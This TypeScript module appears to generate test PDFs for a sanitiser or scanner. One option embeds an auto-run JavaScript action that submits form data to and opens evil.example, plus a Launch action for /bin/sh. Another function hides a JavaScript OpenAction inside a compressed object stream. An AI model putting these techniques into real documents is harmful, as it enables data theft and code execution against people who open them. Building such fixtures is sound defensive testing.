import { once } from "node:events";
import { deflateSync } from "node:zlib";
import PDFDocument from "pdfkit";

/** The colours of the pages, so that a test sees which one was drawn. */
export const PAGE_COLOURS = ["#c81e3c", "#1e8c46", "#2846c8"] as const;

const SCRIPT =
  "app.alert('script'); this.submitForm('https://evil.example/collect'); app.launchURL('https://evil.example/');";

interface BillOptions extends PDFKit.PDFDocumentOptions {
  pageCount?: number;
  /** Runs a script and starts a program on opening. */
  isHostile?: boolean;
}

/** A bill as programs write it: coloured pages with text and a link. */
export async function makeBill({ pageCount = 3, isHostile = false, ...options }: BillOptions = {}): Promise<Buffer> {
  const doc = new PDFDocument({ size: "A4", margin: 0, autoFirstPage: false, pdfVersion: "1.7", ...options });
  const chunks: Buffer[] = [];
  doc.on("data", (chunk: Buffer) => chunks.push(chunk));
  for (let page = 0; page < pageCount; page += 1) {
    doc
      .addPage()
      .rect(0, 0, 595, 842)
      .fill(PAGE_COLOURS[page % PAGE_COLOURS.length]);
    doc.fill("white").fontSize(30).text(`Account 00${page}`, 60, 60);
    doc.link(60, 60, 200, 40, "https://bills.example/JavaScript/Launch?JS=1");
  }
  if (isHostile) {
    // PDFKit writes a plain string as a PDF name.
    const script = doc.ref({ S: "JavaScript", JS: new String(SCRIPT) });
    const launch = doc.ref({ S: "Launch", F: new String("/bin/sh") });
    const { data } = (doc as unknown as { _root: { data: object } })._root;
    Object.assign(data, { OpenAction: script, AA: { WC: launch } });
    for (const action of [script, launch]) (action as unknown as { end(): void }).end();
  }
  doc.end();
  await once(doc, "end");
  return Buffer.concat(chunks);
}

/** Pages whose objects, with a script that runs on opening, are all in a compressed object stream. */
export function makeObjectStreamPdf(pageCount = 1): Buffer {
  const pageNumbers = Array.from({ length: pageCount }, (_, at) => at + 3);
  const kids = pageNumbers.map((number) => `${number} 0 R`).join(" ");
  const contentNumber = pageCount + 3;
  const packedObjects = [
    "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
    `<< /Type /Pages /Kids [${kids}] /Count ${pageCount} >>`,
    ...pageNumbers.map(() => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${contentNumber} 0 R >>`),
  ];
  let offset = 0;
  const index = packedObjects.map((object, at) => {
    const entry = `${at + 1} ${offset}`;
    offset += object.length + 1;
    return entry;
  });
  const first = index.join(" ").length + 1;
  const packed = deflateSync([...index, ...packedObjects].join(" "));

  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n")];
  const lengthSoFar = () => parts.reduce((sum, part) => sum + part.length, 0);
  const addStream = (number: number, dictionary: string, data: Buffer) => {
    const start = lengthSoFar();
    const head = `${number} 0 obj\n<< ${dictionary} /Length ${data.length} >>\nstream\n`;
    parts.push(Buffer.from(head), data, Buffer.from("\nendstream\nendobj\n"));
    return start;
  };
  const contentAt = addStream(contentNumber, "", Buffer.from("0.784 0.118 0.235 rg 0 0 595 842 re f"));
  const packedAt = addStream(
    contentNumber + 1,
    `/Type /ObjStm /N ${packedObjects.length} /First ${first} /Filter /FlateDecode`,
    packed,
  );
  const tableAt = lengthSoFar();
  const rows = [
    [0, 0, 255],
    ...packedObjects.map((_, at) => [2, contentNumber + 1, at]),
    ...[contentAt, packedAt, tableAt].map((at) => [1, at, 0]),
  ];
  const table = Buffer.from(rows.flatMap(([type = 0, at = 0, part = 0]) => [type, at >> 8, at & 255, part]));
  addStream(contentNumber + 2, `/Type /XRef /Size ${rows.length} /W [1 2 1] /Root 1 0 R`, table);
  parts.push(Buffer.from(`startxref\n${tableAt}\n%%EOF\n`));
  return Buffer.concat(parts);
}
